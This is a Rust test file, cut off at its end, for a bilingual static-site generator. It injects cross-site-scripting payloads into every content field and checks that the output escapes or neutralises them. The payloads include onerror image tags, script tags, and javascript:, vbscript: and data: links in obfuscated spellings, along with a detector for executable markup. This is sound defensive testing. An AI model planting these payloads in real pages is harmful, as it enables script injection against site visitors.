//! Hostile input: markup and script in every kind of content string (enterprise, sector, 专栏
//! item, target, glossary, book title, Markdown) reaches every output format (HTML text and
//! attributes, JSON, XML, CSV) as text, never as markup; `javascript:` links are neutralised;
//! each raw-HTML policy does what book.toml says. Also: a killed build loses nothing, an
//! unwritable output is a clear error, the output does not depend on locale, time zone or the
//! order files were created in, and a very long chapter renders in linear time.

mod common;

use common::*;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

/// The attack, tagged with the field it was put into so a leak names its source.
fn payload(field: &str) -> String {
    format!("{field}<img src=x onerror=alert(1)>\"><script>alert(1)</script>'x")
}

/// A YAML double-quoted scalar, which is also a TOML basic string (the same two escapes).
fn quoted(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

const FIELDS: [&str; 14] = [
    "ENTZH", "ENTEN", "SECZH", "SECEN", "ITEMZH", "ITEMEN", "TGTZH", "TGTEN", "TITLEZH", "TITLEEN",
    "GLOSSZH", "GLOSSEN", "DESCZH", "DESCEN",
];

/// Markdown that tries every way into a page: escaped markup in text and code, script links in
/// each spelling, an image with a script source, raw HTML inline and as a block.
const MD_ATTACKS: &str = r#"

## Attacks {#attacks}

MDTEXT\<img src=x onerror=alert(1)\> and `MDCODE<script>alert(1)</script>` and &lt;script&gt;alert(1)&lt;/script&gt;.

[lower](javascript:alert(1)) [mixed](JaVaScRiPt:alert(1)) [tab](java&#x09;script:alert(1)) [entity](&#106;avascript:alert(1)) [vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert(1)> [ref][evil] ![img](javascript:alert(1)) [title](https://example.org/ "\"><script>alert(1)</script>")

[evil]: JAVASCRIPT:alert(1)

Inline raw <img src=x onerror=alert(1)> and <a href="javascript:alert(1)">a</a> here, <b>inline bold</b> and <i>unclosed.

<div onclick="alert(1)"><script>alert(1)</script><b>bold</b></div>
"#;

/// The mini book with a hostile string in every content field that reaches output.
fn hostile_book(raw_html: Option<&str>) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixtures().join("sites/mini"), dir.path());
    let root = dir.path();
    let p = |f: &str| quoted(&payload(f));
    write(
        root,
        "content/enterprises.yaml",
        &format!(
            "enterprises:\n  - id: example-machinery\n    name: {{zh: {}, en: {}}}\n    kind: company\n    aliases: {{zh: [示例机械集团], en: [Example Machinery Group]}}\n    sectors: [manufacturing]\n    basis: {{public: a test entity}}\n",
            p("ENTZH"),
            p("ENTEN")
        ),
    );
    write(
        root,
        "content/sectors.yaml",
        &format!(
            "sectors:\n  - id: manufacturing\n    name: {{zh: {}, en: {}}}\n",
            p("SECZH"),
            p("SECEN")
        ),
    );
    write(
        root,
        "content/sidebars/1.yaml",
        &format!(
            "number: 1\ntitle:\n  zh: 重点建设项目\n  en: Key Construction Projects\ncategories:\n  - id: machinery\n    name: {{zh: 机械制造, en: Machinery}}\n    sectors: [manufacturing]\n    items:\n      - id: s1-machinery-01\n        zh: {}\n        en: {}\n        enterprises: [example-machinery]\n        basis:\n          example-machinery: {{by: chapter, chapter: overview, quote: 示例机械集团…龙头企业}}\n",
            p("ITEMZH"),
            p("ITEMEN")
        ),
    );
    let targets = read(root, "content/targets.yaml").replace(
        "label: {zh: 制造业增加值, en: Value added of manufacturing}",
        &format!("label: {{zh: {}, en: {}}}", p("TGTZH"), p("TGTEN")),
    );
    write(root, "content/targets.yaml", &targets);
    write(
        root,
        "content/glossary.yaml",
        &format!(
            "terms:\n  - id: value-added\n    zh: {}\n    en: {}\n    note:\n      zh: {}\n      en: {}\n",
            p("GLOSSZH"),
            p("GLOSSEN"),
            p("NOTEZH"),
            p("NOTEEN")
        ),
    );
    let mut toml = read(root, "book.toml")
        .replace(
            "zh = \"示例规划\"",
            &format!("zh = {}", quoted(&payload("TITLEZH"))),
        )
        .replace(
            "en = \"Example Plan\"",
            &format!("en = {}", quoted(&payload("TITLEEN"))),
        )
        .replace(
            "zh = \"用 planbook 发布的中英双语规划。\"",
            &format!("zh = {}", quoted(&payload("DESCZH"))),
        )
        .replace(
            "en = \"A bilingual plan published with planbook.\"",
            &format!("en = {}", quoted(&payload("DESCEN"))),
        );
    // URLs with the characters a URL may hold that need escaping in HTML and XML (quotes,
    // markup and spaces are refused by config::parse).
    toml.push_str(&format!(
        "site-url = {}\nedit-url-template = {}\n",
        quoted("https://example.org/plan?a=1&b='2'/"),
        quoted("https://example.org/edit?f={path}&x='1'")
    ));
    if let Some(mode) = raw_html {
        toml.push_str(&format!("raw-html = \"{mode}\"\n"));
    }
    write(root, "book.toml", &toml);
    for lang in ["zh", "en"] {
        let rel = format!("content/chapters/01-overview/{lang}.md");
        let md = read(root, &rel);
        write(root, &rel, &format!("{md}{MD_ATTACKS}"));
    }
    dir
}

fn read(root: &Path, rel: &str) -> String {
    std::fs::read_to_string(root.join(rel)).unwrap()
}

fn write(root: &Path, rel: &str, text: &str) {
    std::fs::write(root.join(rel), text).unwrap();
}

fn build(root: &Path) -> PathBuf {
    let out = root.join("public");
    if let Err(d) = planbook::build(root, &out) {
        panic!("the hostile book must build:\n{d}");
    }
    out
}

/// One tag as an HTML5 tokenizer sees it.
#[derive(Debug)]
struct HtmlTag {
    name: String,
    attrs: Vec<(String, String)>,
    /// For `<script>` and `<style>`: the raw text up to the end tag.
    raw_text: String,
}

/// A small HTML5 tokenizer (data, tag, attribute, comment and raw-text states): enough to see
/// which elements and attributes a browser would create from our output.
fn tags(html: &str) -> Vec<HtmlTag> {
    let b = html.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'<' {
            i += 1;
            continue;
        }
        if html[i..].starts_with("<!--") {
            i = html[i + 4..].find("-->").map_or(b.len(), |e| i + 4 + e + 3);
            continue;
        }
        if html[i..].starts_with("<!") || html[i..].starts_with("<?") {
            i = html[i..].find('>').map_or(b.len(), |e| i + e + 1);
            continue;
        }
        let start = if b.get(i + 1) == Some(&b'/') {
            i + 2
        } else {
            i + 1
        };
        if !b.get(start).is_some_and(|c| c.is_ascii_alphabetic()) {
            i += 1;
            continue;
        }
        let mut j = start;
        while j < b.len() && !b[j].is_ascii_whitespace() && b[j] != b'/' && b[j] != b'>' {
            j += 1;
        }
        let name = html[start..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < b.len() && (b[j].is_ascii_whitespace() || b[j] == b'/') {
                j += 1;
            }
            if j >= b.len() || b[j] == b'>' {
                j += 1;
                break;
            }
            let ns = j;
            while j < b.len() && !b[j].is_ascii_whitespace() && !b"/>=".contains(&b[j]) {
                j += 1;
            }
            let an = html[ns..j].to_ascii_lowercase();
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            let mut value = String::new();
            if b.get(j) == Some(&b'=') {
                j += 1;
                while j < b.len() && b[j].is_ascii_whitespace() {
                    j += 1;
                }
                match b.get(j) {
                    Some(&q) if q == b'"' || q == b'\'' => {
                        let e = html[j + 1..].find(q as char).map_or(b.len(), |e| j + 1 + e);
                        value = html[j + 1..e.min(b.len())].to_string();
                        j = e + 1;
                    }
                    _ => {
                        let vs = j;
                        while j < b.len() && !b[j].is_ascii_whitespace() && b[j] != b'>' {
                            j += 1;
                        }
                        value = html[vs..j].to_string();
                    }
                }
            }
            if an.is_empty() {
                j += 1;
            } else {
                attrs.push((an, value));
            }
        }
        let is_end = b[i + 1] == b'/';
        let mut raw_text = String::new();
        if !is_end && matches!(name.as_str(), "script" | "style" | "title" | "textarea") {
            let close = format!("</{name}");
            let rest = &html[j.min(b.len())..];
            let e = rest.to_ascii_lowercase().find(&close).unwrap_or(rest.len());
            raw_text = rest[..e].to_string();
            j += e;
        }
        if !is_end {
            out.push(HtmlTag {
                name,
                attrs,
                raw_text,
            });
        }
        i = j;
    }
    out
}

/// The inline scripts the theme itself writes: those in the pages of the plain mini book.
fn theme_inline_scripts() -> &'static std::collections::BTreeSet<String> {
    static SCRIPTS: std::sync::OnceLock<std::collections::BTreeSet<String>> =
        std::sync::OnceLock::new();
    SCRIPTS.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        copy_tree(&fixtures().join("sites/mini"), dir.path());
        let out = build(dir.path());
        let mut set = std::collections::BTreeSet::new();
        for (path, bytes) in read_tree(&out) {
            if path.ends_with(".html") {
                for t in tags(&String::from_utf8(bytes).unwrap()) {
                    if t.name == "script" && t.attrs.iter().all(|(a, _)| a != "src") {
                        set.insert(t.raw_text.trim().to_string());
                    }
                }
            }
        }
        set
    })
}

fn decode_entities(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

/// Every way a tag could run script: an `on*` handler, a script URL, the attack's own `<img>`
/// or an inline script. Returns what was found, for the failure message.
fn executable(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for t in tags(html) {
        for (a, v) in &t.attrs {
            let v = decode_entities(v);
            let scheme: String = v
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_ascii_lowercase();
            if a.starts_with("on") {
                found.push(format!("<{} {a}=\"{v}\">", t.name));
            }
            if matches!(
                a.as_str(),
                "href" | "src" | "action" | "formaction" | "xlink:href" | "data"
            ) && (scheme.starts_with("javascript:")
                || scheme.starts_with("vbscript:")
                || scheme.starts_with("data:text/html"))
            {
                found.push(format!("<{} {a}=\"{v}\">", t.name));
            }
        }
        // Inline scripts are the theme's own (the same as in the plain mini book) or came from
        // content.
        let inline = t.attrs.iter().all(|(a, _)| a != "src");
        // A JSON-LD block is data, never run; it must not hold a `<` that could end it.
        let data_block = t
            .attrs
            .iter()
            .any(|(a, v)| a == "type" && v == "application/ld+json");
        if t.name == "script" && data_block {
            if t.raw_text.contains('<') {
                found.push(format!("markup inside JSON-LD: {}", t.raw_text));
            }
            continue;
        }
        if t.name == "script"
            && (t.raw_text.contains("alert")
                || inline && !theme_inline_scripts().contains(t.raw_text.trim()))
        {
            found.push(format!("<script>{}", t.raw_text));
        }
        if matches!(t.name.as_str(), "title" | "textarea") && t.raw_text.contains('<') {
            found.push(format!("markup inside <{}>: {}", t.name, t.raw_text));
        }
    }
    found
}

fn text_files(out: &Path) -> Vec<(String, String)> {
    read_tree(out)
        .into_iter()
        .filter(|(p, _)| !p.starts_with("assets/"))
        .map(|(p, b)| (p, String::from_utf8(b).expect("output is UTF-8")))
        .collect()
}

fn all_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| all_strings(x, out)),
        serde_json::Value::Object(m) => m.values().for_each(|x| all_strings(x, out)),
        _ => {}
    }
}

/// Parses a whole XML document; returns its decoded text and attribute values.
fn parse_xml(path: &str, text: &str) -> Vec<String> {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(text);
    reader.config_mut().check_end_names = true;
    let mut values = Vec::new();
    let mut depth = 0i32;
    loop {
        match reader.read_event() {
            Ok(Event::Eof) => break,
            Ok(Event::Start(e)) => {
                depth += 1;
                for a in e.attributes() {
                    let a = a.unwrap_or_else(|err| panic!("{path}: bad attribute: {err}"));
                    values.push(
                        a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                            .expect("attribute value")
                            .to_string(),
                    );
                }
            }
            Ok(Event::Empty(e)) => {
                for a in e.attributes() {
                    let a = a.unwrap_or_else(|err| panic!("{path}: bad attribute: {err}"));
                    values.push(
                        a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                            .expect("attribute value")
                            .to_string(),
                    );
                }
            }
            Ok(Event::End(_)) => depth -= 1,
            Ok(Event::Text(t)) => values.push(t.xml10_content().to_string()),
            Ok(Event::GeneralRef(r)) => {
                let name = r.xml10_content().to_string();
                let c = match name.as_str() {
                    "lt" => "<".to_string(),
                    "gt" => ">".into(),
                    "amp" => "&".into(),
                    "quot" => "\"".into(),
                    "apos" => "'".into(),
                    other => match r.resolve_char_ref() {
                        Ok(Some(c)) => c.to_string(),
                        _ => panic!("{path}: unknown entity &{other};"),
                    },
                };
                match values.last_mut() {
                    Some(last) => last.push_str(&c),
                    None => values.push(c),
                }
            }
            Ok(Event::CData(c)) => values.push(c.xml10_content().to_string()),
            Ok(_) => {}
            Err(e) => panic!(
                "{path} is not well-formed XML at {}: {e}",
                reader.buffer_position()
            ),
        }
    }
    assert_eq!(depth, 0, "{path}: unclosed elements");
    values
}

#[test]
fn hostile_strings_reach_every_output_as_text() {
    let book = hostile_book(None);
    let out = build(book.path());
    let files = text_files(&out);
    assert!(files.len() > 20, "too few files: {}", files.len());
    let mut json_strings = Vec::new();
    let mut csv_cells = Vec::new();
    let mut escaped_in_html: Vec<&str> = Vec::new();
    for (path, text) in &files {
        if path.ends_with(".html") {
            let bad = executable(text);
            assert!(bad.is_empty(), "{path}: executable markup: {bad:#?}");
            for f in FIELDS {
                if text.contains(&format!("{f}&lt;img src=x onerror=alert(1)&gt;&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#39;x")) {
                    escaped_in_html.push(f);
                }
            }
        } else if path.ends_with(".json") {
            let v: serde_json::Value = serde_json::from_str(text)
                .unwrap_or_else(|e| panic!("{path} is not valid JSON: {e}"));
            all_strings(&v, &mut json_strings);
        } else if path.contains("/search/") && path.ends_with(".js") {
            // Search index files: `planbookSearch("kind", n, JSON);`.
            let json = text
                .split_once(',')
                .and_then(|(_, rest)| rest.split_once(','))
                .and_then(|(_, rest)| rest.trim_end().strip_suffix(");"))
                .unwrap_or_else(|| panic!("{path} is not a search index script"));
            let v: serde_json::Value = serde_json::from_str(json)
                .unwrap_or_else(|e| panic!("{path} does not hold valid JSON: {e}"));
            all_strings(&v, &mut json_strings);
        } else if path.ends_with(".xml") {
            json_strings.extend(parse_xml(path, text));
            assert!(
                !text.contains("<script") && !text.contains("<img"),
                "{path}: markup leaked into XML"
            );
        } else if path.ends_with(".csv") {
            let mut r = csv::Reader::from_reader(text.as_bytes());
            let width = r.headers().expect("CSV header").len();
            for rec in r.records() {
                let rec = rec.unwrap_or_else(|e| panic!("{path} is not valid CSV: {e}"));
                assert_eq!(rec.len(), width, "{path}: ragged row");
                csv_cells.extend(rec.iter().map(str::to_string));
            }
        } else {
            assert!(
                !text.contains("<script") && !text.contains("onerror"),
                "{path}: markup in a plain file"
            );
        }
        // JSON and CSV are data and carry the strings as written; every markup format must
        // never hold the attack's tags whole.
        if !path.ends_with(".json") && !path.ends_with(".csv") {
            assert!(
                !text.contains("<img src=x onerror") && !text.contains("<script>alert"),
                "{path} holds the attack as markup"
            );
        }
    }
    // Every field shows up escaped in some page, in its own language.
    escaped_in_html.sort();
    escaped_in_html.dedup();
    let mut expected = FIELDS.to_vec();
    expected.sort();
    assert_eq!(escaped_in_html, expected, "fields missing from the pages");
    // The data files carry every record field exactly as written.
    for f in [
        "ENTZH", "ENTEN", "SECZH", "SECEN", "ITEMZH", "ITEMEN", "TGTZH", "TGTEN",
    ] {
        let want = payload(f);
        assert!(
            json_strings.iter().any(|s| s == &want),
            "{f}: not round-tripped through JSON"
        );
        assert!(
            csv_cells.iter().any(|s| s == &want),
            "{f}: not round-tripped through CSV"
        );
    }
    // Search indexes: the passage text with escaped markup is plain text, unchanged.
    assert!(
        json_strings
            .iter()
            .any(|s| s.contains("MDTEXT<img src=x onerror=alert(1)>")),
        "Markdown text missing from the search index"
    );
    assert!(
        json_strings
            .iter()
            .any(|s| s.contains("MDCODE<script>alert(1)</script>")),
        "inline code missing from the search index"
    );
    // Pages in particular places: <title>, meta description, aria/alt, the chart's SVG text.
    let zh = &files
        .iter()
        .find(|(p, _)| p == "zh/chapters/overview/index.html")
        .expect("chapter page")
        .1;
    let title = tags(zh)
        .into_iter()
        .find(|t| t.name == "title")
        .expect("title");
    assert!(
        title
            .raw_text
            .contains("TITLEZH&lt;img src=x onerror=alert(1)&gt;&quot;&gt;&lt;script&gt;"),
        "{}",
        title.raw_text
    );
    // The book's description is the home page's (a chapter's is its first passage).
    let home = &files
        .iter()
        .find(|(p, _)| p == "zh/index.html")
        .expect("home page")
        .1;
    let description = tags(home)
        .into_iter()
        .find(|t| {
            t.name == "meta"
                && t.attrs
                    .iter()
                    .any(|(a, v)| a == "name" && v == "description")
        })
        .expect("meta description");
    assert!(
        description
            .attrs
            .iter()
            .any(|(a, v)| a == "content"
                && v.contains("&lt;img src=x onerror=alert(1)&gt;&quot;&gt;")),
        "{description:?}"
    );
    for t in tags(zh) {
        for (a, v) in &t.attrs {
            if matches!(a.as_str(), "content" | "alt" | "aria-label" | "title") {
                assert!(!v.contains('<') && !v.contains('"'), "<{} {a}={v}>", t.name);
            }
        }
    }
    assert!(
        zh.contains("MDTEXT&lt;img src=x onerror=alert(1)&gt;"),
        "escaped Markdown text"
    );
    assert!(zh.contains("<code>MDCODE&lt;script&gt;alert(1)&lt;/script&gt;</code>"));
    // The settings' URLs, escaped in attributes; the sitemap parsed above as XML.
    assert!(
        zh.contains("href=\"https://example.org/edit?f=content/chapters/01-overview/zh.md&amp;x=&#39;1&#39;\""),
        "edit link"
    );
    let sitemap = &files
        .iter()
        .find(|(p, _)| p == "sitemap.xml")
        .expect("sitemap")
        .1;
    assert!(sitemap.contains("<loc>https://example.org/plan?a=1&amp;b=&apos;2&apos;/zh/chapters/overview/index.html</loc>"));
    // Sanitised raw HTML keeps harmless markup.
    assert!(zh.contains("<b>bold</b>"), "sanitize keeps <b>");
}

#[test]
fn script_links_are_neutralised_in_every_spelling() {
    let book = hostile_book(None);
    let out = build(book.path());
    for lang in ["zh", "en"] {
        let page =
            std::fs::read_to_string(out.join(format!("{lang}/chapters/overview/index.html")))
                .unwrap();
        let bad = executable(&page);
        assert!(bad.is_empty(), "{lang}: {bad:?}");
        // No attribute anywhere holds a script URL, in any spelling.
        for t in tags(&page) {
            for (a, v) in &t.attrs {
                let v: String = decode_entities(v)
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                for bad in ["javascript:", "vbscript:", "data:"] {
                    // The theme's own favicon is an inline SVG image.
                    let favicon = t.name == "link" && v.starts_with("data:image/svg+xml,");
                    assert!(
                        !v.contains(bad) || favicon,
                        "{lang}: <{} {a}=\"{v}\">",
                        t.name
                    );
                }
            }
        }
        let hrefs: Vec<String> = tags(&page)
            .into_iter()
            .filter(|t| t.name == "a")
            .filter_map(|t| t.attrs.into_iter().find(|(a, _)| a == "href"))
            .map(|(_, v)| v)
            .collect();
        for text in [
            "lower",
            "mixed",
            "tab",
            "entity",
            "vb",
            "data",
            "javascript:alert(1)",
            "ref",
        ] {
            assert!(
                page.contains(&format!("<a href=\"#\">{text}</a>")),
                "{lang}: link `{text}`"
            );
        }
        assert!(
            page.contains("<img src=\"#\" alt=\"img\" />"),
            "{lang}: image"
        );
        // lower, mixed, tab, entity, vb, data, autolink, reference: all become "#".
        assert!(
            hrefs.iter().filter(|h| *h == "#").count() >= 8,
            "{lang}: {hrefs:?}"
        );
        // The link title with quotes stays inside its attribute.
        assert!(
            page.contains("title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\""),
            "{lang}: link title"
        );
    }
}

fn overview(out: &Path) -> String {
    std::fs::read_to_string(out.join("zh/chapters/overview/index.html")).unwrap()
}

#[test]
fn raw_html_sanitize_keeps_harmless_tags_and_drops_script() {
    for mode in [None, Some("sanitize")] {
        let book = hostile_book(mode);
        let page = overview(&build(book.path()));
        assert!(page.contains("<b>bold</b>"), "{mode:?}");
        assert!(
            page.contains("<div>"),
            "{mode:?}: the block's <div> is kept"
        );
        assert!(
            executable(&page).is_empty(),
            "{mode:?}: {:?}",
            executable(&page)
        );
        assert!(!page.contains("<script>alert"), "{mode:?}");
        // Inline raw HTML: the image is kept without its handler, the link without its URL.
        assert!(page.contains("Inline raw <img src=\"x\">"), "{mode:?}");
        assert!(
            page.contains("here, <b>inline bold</b> and <i>unclosed.</i></p>"),
            "{mode:?}: inline tags keep their content and close inside the paragraph"
        );
        assert!(!page.contains("onclick"), "{mode:?}");
    }
}

#[test]
fn raw_html_escape_shows_tags_as_text() {
    let book = hostile_book(Some("escape"));
    let page = overview(&build(book.path()));
    assert!(executable(&page).is_empty(), "{:?}", executable(&page));
    assert!(
        page.contains("&lt;div onclick=\"alert(1)\"&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;&lt;/div&gt;"),
        "block shown as text"
    );
    assert!(
        page.contains("Inline raw &lt;img src=x onerror=alert(1)&gt;"),
        "inline tag shown as text"
    );
    assert!(page.contains("&lt;b&gt;inline bold&lt;/b&gt; and &lt;i&gt;unclosed."));
    assert!(!page.contains("<b>bold</b>"));
}

#[test]
fn raw_html_trust_keeps_tags_as_written() {
    let book = hostile_book(Some("trust"));
    let page = overview(&build(book.path()));
    assert!(page.contains("<div onclick=\"alert(1)\"><script>alert(1)</script><b>bold</b></div>"));
    assert!(page.contains("Inline raw <img src=x onerror=alert(1)>"));
    assert!(page.contains("<b>inline bold</b> and <i>unclosed."));
    // Trust is about raw HTML only: content strings and links are still escaped/neutralised.
    assert!(page.contains("TITLEZH&lt;img"));
    assert!(page.contains("<a href=\"#\">lower</a> <a href=\"#\">mixed</a>"));
}

#[test]
fn a_script_edit_url_template_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixtures().join("sites/mini"), dir.path());
    let toml = read(dir.path(), "book.toml").replace(
        "# edit-url-template = \"https://github.com/you/plan/edit/main/{path}\"",
        "edit-url-template = \"JavaScript:alert(1)//{path}\"",
    );
    write(dir.path(), "book.toml", &toml);
    let err = planbook::build(dir.path(), &dir.path().join("public"))
        .err()
        .expect("refused")
        .to_string();
    assert!(
        err.starts_with("book.toml:16:1: error[config]: edit-url-template `JavaScript:alert(1)//{path}` is not an absolute http(s) URL"),
        "{err}"
    );
}

#[test]
fn the_tokenizer_sees_what_a_browser_would() {
    assert!(executable("<p>&lt;img src=x onerror=alert(1)&gt;</p>").is_empty());
    assert!(!executable("<p><img src=x onerror=alert(1)></p>").is_empty());
    assert!(!executable("<a href=\" JavaScript:alert(1)\">x</a>").is_empty());
    assert!(!executable("<title>a</title><script>alert(1)</script>").is_empty());
    assert!(!executable("<meta content=\"\"><script>alert(1)</script>\">").is_empty());
    assert!(executable("<script src=\"assets/planbook.js\"></script>").is_empty());
    assert!(executable("<!-- <script>alert(1)</script> -->").is_empty());
}

// ---------------------------------------------------------------------------------------------
// Nothing lost: a killed build, an unwritable output.

fn planbook() -> Command {
    Command::new(env!("CARGO_BIN_EXE_planbook"))
}

/// The mini book with `n` more chapter pages, each long enough to take some rendering.
fn big_book(n: usize) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixtures().join("sites/mini"), dir.path());
    let para_zh = "示例机械集团扩大生产，提高质量。".repeat(20);
    let para_en = "Example Machinery Group expands production and improves quality. ".repeat(10);
    for i in 0..n {
        let d = dir
            .path()
            .join(format!("content/chapters/{:04}-part-{i}", i + 2));
        std::fs::create_dir_all(&d).unwrap();
        std::fs::write(
            d.join("chapter.yaml"),
            format!(
                "id: part-{i}\nchapter: {}\ntitle:\n  zh: 第{i}部分\n  en: Part {i}\n",
                i + 2
            ),
        )
        .unwrap();
        let mut zh = String::new();
        let mut en = String::new();
        for h in 0..5 {
            zh.push_str(&format!(
                "## 第{h}节 {{#s{h}}}\n\n{para_zh}\n\n{para_zh}\n\n"
            ));
            en.push_str(&format!(
                "## Section {h} {{#s{h}}}\n\n{para_en}\n\n{para_en}\n\n"
            ));
        }
        std::fs::write(d.join("zh.md"), zh).unwrap();
        std::fs::write(d.join("en.md"), en).unwrap();
    }
    dir
}

#[test]
fn a_killed_build_leaves_the_previous_output_and_the_next_build_cleans_up() {
    // 1,000 chapters (4,000 pages, about 300 MB): the debug binary renders for about 12 s and
    // writes for about 1.5 s, a wide window to kill it in.
    let book = big_book(1000);
    let root = book.path();
    let out = root.join("public");
    let staging = root.join(".public.planbook-staging");
    // The previous output: a small, recognisable site.
    std::fs::create_dir_all(out.join("zh")).unwrap();
    std::fs::write(out.join(planbook::write::MARKER), "").unwrap();
    std::fs::write(out.join("index.html"), "previous build").unwrap();
    std::fs::write(out.join("zh/index.html"), "上一次构建").unwrap();
    let before = read_tree(&out);

    let mut killed_while_writing = false;
    for attempt in 0..5 {
        let mut child = planbook()
            .args(["build", "--root"])
            .arg(root)
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let started = Instant::now();
        let mut seen = false;
        while started.elapsed() < Duration::from_secs(120) {
            // Files are written in path order: `en/` is early in the writing phase.
            if staging.join("en").exists() {
                seen = true;
                break;
            }
            if child.try_wait().unwrap().is_some() {
                break;
            }
            std::thread::sleep(Duration::from_micros(200));
        }
        child.kill().ok(); // SIGKILL
        let status = child.wait().unwrap();
        if seen && !status.success() {
            killed_while_writing = true;
            break;
        }
        // The build won the race: put the previous output back and try again.
        eprintln!("attempt {attempt}: the build finished before it was killed; retrying");
        std::fs::remove_dir_all(&out).unwrap();
        std::fs::create_dir_all(out.join("zh")).unwrap();
        std::fs::write(out.join(planbook::write::MARKER), "").unwrap();
        std::fs::write(out.join("index.html"), "previous build").unwrap();
        std::fs::write(out.join("zh/index.html"), "上一次构建").unwrap();
    }
    assert!(
        killed_while_writing,
        "never caught the build while it was writing"
    );
    assert_eq!(
        read_tree(&out),
        before,
        "a killed build must leave the previous output byte for byte"
    );
    assert!(staging.exists(), "the killed build left its staging folder");

    let done = planbook()
        .args(["build", "--root"])
        .arg(root)
        .output()
        .unwrap();
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert!(!staging.exists(), "the next build removes the leftover");
    assert!(!root.join(".public.planbook-old").exists());
    assert!(out.join("zh/chapters/part-999/index.html").is_file());
    let names: Vec<String> = std::fs::read_dir(root)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .filter(|n| n.contains("planbook-") && !n.ends_with("planbook-lock"))
        .collect();
    assert!(names.is_empty(), "leftovers: {names:?}");
}

#[test]
fn an_output_under_a_file_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&fixtures().join("sites/mini"), dir.path());
    let file = dir.path().join("not-a-folder");
    std::fs::write(&file, "x").unwrap();
    let out = file.join("public");
    let run = planbook()
        .args(["build", "--root"])
        .arg(dir.path())
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(!run.status.success());
    let err = String::from_utf8_lossy(&run.stderr);
    let first = err.lines().next().unwrap_or("");
    assert!(
        first.ends_with(
            "/not-a-folder/public:1:1: error[output]: cannot create the output folder: `"
        ) || first.contains("error[output]: cannot create the output folder: `"),
        "{err}"
    );
    assert!(
        first.ends_with("/not-a-folder` is a file, not a folder"),
        "the message names the file in the way: {err}"
    );
    assert!(
        err.contains("hint: choose another --out, or move the file out of the way"),
        "{err}"
    );
    assert!(err.contains("was left untouched"), "{err}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "x");
}

// ---------------------------------------------------------------------------------------------
// Reproducible: locale, time zone and file-creation order do not change a byte.

/// Copies the files of `from` into `to` in reverse path order (so directory entries are
/// created, and usually listed, in the opposite order).
fn copy_reversed(from: &Path, to: &Path) {
    let mut files: Vec<PathBuf> = walkdir::WalkDir::new(from)
        .into_iter()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().strip_prefix(from).unwrap().to_path_buf())
        .collect();
    files.sort();
    files.reverse();
    for rel in files {
        let dest = to.join(&rel);
        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
        std::fs::copy(from.join(&rel), dest).unwrap();
    }
}

#[test]
fn builds_do_not_depend_on_locale_time_zone_or_file_order() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    let src = repo();
    // The bundled plan: its content, interface strings and book.toml (no git history in a
    // temporary folder, so no dates from git on either side).
    for part in ["content", "i18n", "book.toml"] {
        let from = src.join(part);
        if from.is_dir() {
            copy_tree(&from, &a.path().join(part));
            copy_reversed(&from, &b.path().join(part));
        } else {
            std::fs::copy(&from, a.path().join(part)).unwrap();
            std::fs::copy(&from, b.path().join(part)).unwrap();
        }
    }
    if src.join("themes").is_dir() {
        copy_tree(&src.join("themes"), &a.path().join("themes"));
        copy_reversed(&src.join("themes"), &b.path().join("themes"));
    }
    let run = |root: &Path, env: &[(&str, &str)]| {
        let mut cmd = planbook();
        cmd.args(["build", "--root"]).arg(root);
        for (k, v) in env {
            cmd.env(k, v);
        }
        let o = cmd.output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    run(a.path(), &[("LC_ALL", "C"), ("LANG", "C"), ("TZ", "UTC")]);
    run(
        b.path(),
        &[
            ("LC_ALL", "zh_CN.UTF-8"),
            ("LANG", "zh_CN.UTF-8"),
            ("TZ", "Asia/Shanghai"),
            ("SOURCE_DATE_EPOCH", "0"),
        ],
    );
    let ta = read_tree(&a.path().join("public"));
    let tb = read_tree(&b.path().join("public"));
    assert!(ta.len() > 100, "{} files", ta.len());
    let pa: Vec<&String> = ta.iter().map(|(p, _)| p).collect();
    let pb: Vec<&String> = tb.iter().map(|(p, _)| p).collect();
    assert_eq!(pa, pb, "the same files");
    for ((p, x), (_, y)) in ta.iter().zip(&tb) {
        assert!(x == y, "{p} differs between the two builds");
    }
}

// ---------------------------------------------------------------------------------------------
// A very long chapter: rendering time grows linearly with its length.

fn render_items(n: usize) -> Duration {
